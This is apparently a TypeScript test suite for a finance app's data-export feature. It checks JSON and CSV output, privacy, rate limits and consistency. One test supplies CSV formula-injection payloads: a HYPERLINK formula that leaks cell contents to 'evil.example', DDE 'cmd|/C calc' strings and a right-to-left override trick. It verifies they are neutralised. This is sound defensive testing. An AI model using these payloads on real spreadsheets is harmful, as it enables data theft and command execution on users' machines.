import { once } from 'node:events';
import { readdir } from 'node:fs/promises';
import { request, type IncomingMessage } from 'node:http';
import { tmpdir } from 'node:os';
import type { Transaction } from '@saldo/contract/transactions/transactions.schemas';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { startTestApp, type TestApp } from '../../testing/app.ts';
import {
  createAccount,
  createGoal,
  createPerson,
  createTransaction,
  type Person,
} from '../../testing/factories.ts';
import { alone } from '../../testing/through-cluster.ts';

let app: TestApp;
let person: Person;
beforeAll(async () => {
  app = await startTestApp({ clock: '2026-11-18T22:30:00Z' });
});
afterAll(() => app.close());
beforeEach(async () => {
  person = await createPerson(app);
  await confirmPassword(person);
});

const confirmPassword = ({ token, password }: Person) =>
  app.call('POST /auth/reauthenticate', { token, body: { password } });
const download = (file: string, { token } = person) =>
  app.call(`GET /settings/export/${file}`, { token, headers: inTokyo });
const inTokyo = { 'X-Timezone': 'Asia/Tokyo' };
const get = async (path: string) =>
  (await app.call(`GET ${path}`, { token: person.token, headers: inTokyo })).json;

/** RFC 4180, read strictly: quotes only around whole cells, CRLF between records and at the end. */
function parseCsv(text: string): Record<string, string>[] {
  expect(text.startsWith('\ufeff')).toBe(true);
  const records: string[][] = [];
  let at = 1;
  while (at < text.length) {
    const cells: string[] = [];
    for (;;) {
      const match = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/y;
      match.lastIndex = at;
      const found = match.exec(text);
      if (!found) throw new Error(`not RFC 4180 at ${at}: ${JSON.stringify(text.slice(at, at + 60))}`);
      cells.push(found[1]?.replaceAll('""', '"') ?? found[2] ?? '');
      at = match.lastIndex;
      if (found[3] === '\r\n') break;
    }
    records.push(cells);
  }
  const [names = [], ...rows] = records;
  for (const row of rows) expect(row).toHaveLength(names.length);
  return rows.map((row) => Object.fromEntries(names.map((name, index) => [name, row[index] ?? ''])));
}

/** An account, three rows, a goal that draws on the account, an edit, and a question with its facts. */
async function fill() {
  const account = await createAccount(app, person, { name: 'Café "Nómina", 1ª', mask: '0012' });
  const euro = await createAccount(app, person, { currency: 'EUR', current_minor: 7, available_minor: null });
  const kept = await createTransaction(app, person, account, { date: '2026-11-17', amount_minor: -10 });
  await createTransaction(app, person, account, { date: '2026-11-16', amount_minor: 99_999_999_999 });
  await createTransaction(app, person, euro, { amount_minor: -1, currency: 'EUR', merchant_name: null });
  const token = person.token;
  await app.call(`PATCH /transaction/${kept}`, { token, body: { category_primary: 'TRAVEL' } });
  const { goal } = (
    await app.call('POST /goals/', {
      token,
      body: { title: 'Bici', target_amount: 500.5, linked_account_id: account, linked_amount: 12.34 },
    })
  ).json;
  await app.call(`PUT /goals/${goal.id}/progress`, { token, body: { amount: 0.1 } });
  await app.call('POST /chat/', { token, body: { message: 'How much did I spend this month?' } });
}

describe('the file', () => {
  test.each([
    ['saldo.json', 'saldo-2026-11-19.json', 'application/json; charset=utf-8'],
    ['goal-entries.csv', 'saldo-goal-entries-2026-11-19.csv', 'text/csv; charset=utf-8'],
  ])('%s is saved under today’s date, never shown, never kept', async (file, name, type) => {
    const { status, headers, text } = await download(file);
    expect(status).toBe(200);
    expect(headers.get('content-disposition')).toBe(`attachment; filename="${name}"`);
    expect(headers.get('content-type')).toBe(type);
    expect(headers.get('cache-control')).toBe('no-store');
    expect(headers.get('x-content-type-options')).toBe('nosniff');
    // The byte order mark is eaten by fetch().text(), not by the length.
    expect(Number(headers.get('content-length'))).toBeGreaterThanOrEqual(Buffer.byteLength(text));
  });

  test.each(['users.csv', 'saldo.json.gz', '..%2Fsaldo.json', 'SALDO.JSON'])('%s is none', async (file) => {
    const { status, json } = await download(file);
    expect([status, json.code]).toEqual([404, 'NOT_FOUND']);
  });

  test('nothing of it stays on the disk, and that it was taken is noted', async () => {
    await download('transactions.csv');
    expect((await readdir(tmpdir())).filter((name) => /^saldo-[0-9a-f-]{36}\.tmp$/.test(name))).toEqual([]);
    const { security_log: log } = (await download('saldo.json')).json;
    expect(log.map(({ action, subject }: never) => [action, subject])).toEqual(
      expect.arrayContaining([
        ['data_exported', 'transactions.csv'],
        ['data_exported', 'saldo.json'],
      ]),
    );
  });

  test('60 files an hour', async () => {
    const limited = await startTestApp({
      beside: app,
      clock: '2026-11-18T22:30:00Z',
      env: { RATE_LIMIT_SCALE: '0.05' },
    });
    const statuses = [];
    for (let index = 0; index < 4; index += 1)
      statuses.push((await limited.call('GET /settings/export/chat.csv', { token: person.token })).status);
    await limited.close();
    expect(statuses).toEqual([200, 200, 200, 429]);
  });
});

describe('saldo.json', () => {
  test('says what the API says, to the cent', async () => {
    await fill();
    const { json } = await download('saldo.json');
    const { accounts } = await get('/accounts/');
    const { transactions } = await get('/transaction/transactions?limit=500');
    const { goals } = await get('/goals/');
    const { history } = await get('/chat/history');
    expect(json.accounts).toEqual(accounts);
    expect(json.transactions).toMatchObject(transactions);
    expect(Object.keys(json.transactions[0])).toEqual([
      ...Object.keys(transactions[0]),
      'bank_category_primary',
      'bank_category_detailed',
      'bank_merchant_name',
      'transfer_said',
      'said_by',
    ]);
    expect(json.transactions[1]).toMatchObject({
      amount: -0.1,
      category_primary: 'TRAVEL',
      category_edited: true,
      bank_category_primary: 'FOOD_AND_DRINK',
    });
    expect(json.goals).toEqual(goals);
    expect(json.goals[0]).toMatchObject({
      current_amount: 12.44,
      linked_amount: 12.34,
      target_amount: 500.5,
    });
    const { entries } = await get(`/goals/${goals[0].id}/entries`);
    const facts = Object.keys(json.goal_entries[0]);
    expect(entries.toReversed()).toMatchObject(json.goal_entries);
    expect(Object.keys(entries[0])).toEqual([...facts, 'undoable', 'undo_refusal']);
    expect(json.chat).toEqual(history);
    expect(json.chat[0].facts.length).toBeGreaterThan(0);
    expect(json.sessions).toEqual((await get('/settings/sessions')).sessions);
    expect(json.profile).toMatchObject({ ...(await get('/settings')).settings, id: person.id });
    const institutions = json.institutions.map(({ name }: { name: string }) => name);
    expect(institutions).toEqual(['Quokka National Bank', 'Quokka National Bank']);
    expect([json.format, json.made_at]).toEqual(['saldo-export-1', '2026-11-18T22:30:00.000Z']);
  });

  test('holds balances by day, and what was deleted as far as it is still kept', async () => {
    const account = await createAccount(app, person);
    const row = await createTransaction(app, person, account, { name: 'GONE SHOP', amount_minor: -1_999 });
    await app.db.inTransaction(person.id, (tx) =>
      tx
        .insertInto('account_balances')
        .values({
          user_id: person.id,
          account_id: account,
          day: '2026-11-17',
          current_minor: -5,
          available_minor: null,
        })
        .execute(),
    );
    await app.call(`DELETE /transaction/${row}/delete`, { token: person.token });
    const first = (await download('saldo.json')).json;
    expect(first.balances).toEqual([
      { account_id: account, day: '2026-11-17', current: -0.05, available: null, observed: true },
    ]);
    expect(first.transactions).toEqual([]);
    expect(first.deleted_transactions).toMatchObject([
      { name: 'GONE SHOP', amount: -19.99, currency: 'USD' },
    ]);
    const second = await createAccount(app, person, {
      name: 'Second',
      link_id: (await get('/plaid/status')).institutions[0].id,
    });
    await app.call(`DELETE /accounts/delete/${second}`, { token: person.token });
    expect((await download('saldo.json')).json.deleted_accounts).toMatchObject([
      { id: second, name: 'Second' },
    ]);
  });

  test('holds no token, no hash, no sealed secret and nothing of anybody else', async () => {
    await fill();
    const other = await createPerson(app, { first_name: 'Zebedee' });
    const theirs = await createAccount(app, other, { name: 'Zebedee’s account' });
    await createTransaction(app, other, theirs, { name: 'ZEBEDEE SHOP' });
    await createGoal(app, other, { title: 'Zebedee’s goal' });
    const { text } = await download('saldo.json');
    expect(text).not.toMatch(/zebedee/i);
    expect(text).not.toMatch(/argon2|sld_|v1\.[0-9a-f]{8}\.|access-item|password_hash|sha256|sealed/);
    expect(text).not.toContain(person.password);
  });

  test('a person with nothing gets a whole file of nothing', async () => {
    const { json } = await download('saldo.json');
    expect(json).toMatchObject({ accounts: [], transactions: [], goals: [], chat: [], balances: [] });
    expect(json.sessions).toHaveLength(1);
  });
});

describe('the tables', () => {
  test('say what the API says, to the cent', async () => {
    await fill();
    const { transactions } = await get('/transaction/transactions?limit=500');
    const rows = await rowsOf('transactions.csv');
    expect(rows.map(({ id, amount, date, name }) => [Number(id), Number(amount), date, name])).toEqual(
      transactions.map((row: Transaction) => [row.id, row.amount, row.date, row.name]),
    );
    expect(rows.map(({ amount }) => amount)).toEqual(['-0.01', '-0.10', '999999999.99']);
    expect(rows[1]).toMatchObject({
      category_primary: 'TRAVEL',
      category_edited: 'true',
      bank_category_primary: 'FOOD_AND_DRINK',
      account_name: 'Café "Nómina", 1ª',
    });
    const { accounts } = await get('/accounts/');
    const accountRows = await rowsOf('accounts.csv');
    expect(
      accountRows.map((row) => [Number(row['id']), row['current'], row['available'], row['mask']]),
    ).toEqual([
      [accounts[0].id, '1000.00', '1000.00', '0012'],
      [accounts[1].id, '0.07', '', '4821'],
    ]);
    expect(accountRows[0]).toMatchObject({ reserved_balance: '12.34', unreserved_balance: '987.66' });
    const [goal] = await rowsOf('goals.csv');
    expect(goal).toMatchObject({
      title: 'Bici',
      target_amount: '500.50',
      current_amount: '12.44',
      linked_amount: '12.34',
    });
    const entries = await rowsOf('goal-entries.csv');
    expect(entries.map(({ kind, amount, goal_title }) => [kind, amount, goal_title])).toEqual([
      ['linked', '12.34', 'Bici'],
      ['manual', '0.10', 'Bici'],
    ]);
    const { history } = await get('/chat/history');
    const [message] = await rowsOf('chat.csv');
    expect(message).toMatchObject({ message: history[0].message, response: history[0].response });
  });

  async function rowsOf(file: string) {
    const answer = await fetch(`${app.origin}/api/v1/settings/export/${file}`, {
      headers: { Authorization: `Bearer ${person.token}` },
    });
    return parseCsv(new TextDecoder('utf-8', { ignoreBOM: true }).decode(await answer.arrayBuffer()));
  }

  test('what others wrote cannot become a formula, break a row or run over its cell', async () => {
    const nasty = [
      '=HYPERLINK("http://evil.example/?"&A1,"Refund")',
      "+cmd|' /C calc'!A0",
      '@SUM(1+1)*cmd|" /C calc"!A0',
      '-2+3',
      'two\r\nlines, "quoted"; and\tmore',
      '\u202egnp.tnemyap',
      ' =1+1',
      '＝1+1',
    ];
    const account = await createAccount(app, person, { name: '=1+1' });
    for (const [index, name] of nasty.entries())
      await createTransaction(app, person, account, {
        name,
        merchant_name: name,
        date: `2026-11-0${9 - index}`,
      });
    const rows = await rowsOf('transactions.csv');
    expect(rows).toHaveLength(nasty.length);
    const kept = new Set([nasty[4], nasty[5]]);
    expect(rows.map(({ name }) => name)).toEqual(nasty.map((name) => (kept.has(name) ? name : `'${name}`)));
    expect(rows.every(({ account_name, amount }) => account_name === "'=1+1" && amount === '-12.50')).toBe(
      true,
    );
    // The JSON keeps every text as it is.
    const names = (await download('saldo.json')).json.transactions.map(({ name }: { name: string }) => name);
    expect(names).toEqual(nasty);
  });

  test('ten thousand rows come whole, in order, in both forms', async () => {
    const account = await createAccount(app, person);
    await app.db.pool.query(
      `begin; set local saldo.user_id = '${person.id}';
       insert into transactions (user_id, account_id, provider_transaction_id, amount_minor, currency, date, name, pending)
       select ${person.id}, ${account}, 'many-' || ${person.id} || '-' || n, -n, 'USD', date '2026-01-01' + n % 200, 'Row ' || n, false
       from generate_series(1, 10000) as n; commit`,
    );
    const rows = await rowsOf('transactions.csv');
    expect(rows).toHaveLength(10_000);
    expect(new Set(rows.map(({ id }) => id)).size).toBe(10_000);
    const sum = rows.reduce((total, { amount }) => total + Math.round(Number(amount) * 100), 0);
    expect(sum).toBe(-50_005_000);
    const { transactions } = (await download('saldo.json')).json;
    expect(transactions.map(({ id }: { id: number }) => String(id))).toEqual(rows.map(({ id }) => id));
    const { summary } = await get('/transaction/summary');
    expect(summary.net_balance).toBe(-500_050);
  });

  test.runIf(alone)(
    'one moment: what comes while it is written is not in it, however late its turn',
    async () => {
      const account = await createAccount(app, person);
      await createTransaction(app, person, account, { date: '2026-06-01' });
      const { inTransaction } = app.services.db;
      let answers = 0;
      const meanwhile = {
        transformQuery: ({ node }: { node: never }) => node,
        // After the first answer of the file, long before transactions and goals have their turn.
        async transformResult<R>({ result }: { result: R }) {
          answers += 1;
          if (answers === 1) {
            await createTransaction(app, person, account, { date: '2026-05-01' });
            await createGoal(app, person);
          }
          return result;
        },
      };
      app.services.db.inTransaction = async (userId, work, options) =>
        options?.readOnly
          ? inTransaction(userId, (tx) => work(tx.withPlugin(meanwhile as never)), options)
          : inTransaction(userId, work, options);
      const { json } = await download('saldo.json');
      app.services.db.inTransaction = inTransaction;
      expect(answers).toBeGreaterThan(5);
      expect([json.transactions.length, json.goals.length]).toEqual([1, 0]);
      expect((await get('/transaction/summary')).summary.total_count).toBe(2);
      expect((await get('/goals/')).goals).toHaveLength(1);
    },
  );
});

test('twenty files at once are made two at a time: other calls find a connection, and every file comes', async () => {
  const account = await createAccount(app, person);
  await app.db.pool.query(
    `begin; set local saldo.user_id = '${person.id}';
     insert into transactions (user_id, account_id, provider_transaction_id, amount_minor, currency, date, name, pending)
     select ${person.id}, ${account}, 'gate-' || ${person.id} || '-' || n, -100, 'USD', date '2026-06-01', 'Row', false
     from generate_series(1, 3000) as n; commit`,
  );
  let most = 0;
  const { inTransaction } = app.services.db;
  let open = 0;
  app.services.db.inTransaction = async (userId, work, options) => {
    if (options?.isolation !== 'repeatable read') return inTransaction(userId, work, options);
    open += 1;
    most = Math.max(most, open);
    return inTransaction(userId, work, options).finally(() => (open -= 1));
  };
  const files = await Promise.all(Array.from({ length: 20 }, () => download('transactions.csv')));
  app.services.db.inTransaction = inTransaction;
  expect(most).toBe(2);
  expect(new Set(files.map(({ status, text }) => `${status} ${text.split('\r\n').length}`))).toEqual(
    new Set(['200 3002']),
  );
});

test('whoever goes away half-way leaves nothing behind, and the next one is served', async () => {
  const account = await createAccount(app, person);
  await app.db.pool.query(
    `begin; set local saldo.user_id = '${person.id}';
     insert into transactions (user_id, account_id, provider_transaction_id, amount_minor, currency, date, name, pending)
     select ${person.id}, ${account}, 'away-' || ${person.id} || '-' || n, -100, 'USD', date '2026-06-01', repeat('x', 300), false
     from generate_series(1, 10000) as n; commit`,
  );
  for (let time = 0; time < 3; time += 1) {
    const asking = request(`${app.origin}/api/v1/settings/export/saldo.json`, {
      agent: false,
      headers: { Authorization: `Bearer ${person.token}` },
    });
    asking.end();
    const [answer] = (await once(asking, 'response')) as [IncomingMessage];
    await once(answer, 'data');
    asking.destroy();
  }
  expect((await download('saldo.json')).json.transactions).toHaveLength(10_000);
  expect(app.db.pool.waitingCount).toBe(0);
  expect(app.logged()).not.toMatch(/"level":(50|60)/);
});

test('is announced by mail, the files of an hour together', async () => {
  const sent = async () =>
    (await app.mails()).filter(({ to }) => to?.[0]?.address === person.email).map(({ subject }) => subject);
  await download('saldo.json');
  await Promise.all([download('accounts.csv'), download('transactions.csv')]);
  expect(await sent()).toEqual(['Your Saldo data was downloaded']);
  app.clock.advance(60 * 60);
  await confirmPassword(person);
  await download('saldo.json');
  expect(await sent()).toEqual(['Your Saldo data was downloaded', 'Your Saldo data was downloaded']);
});
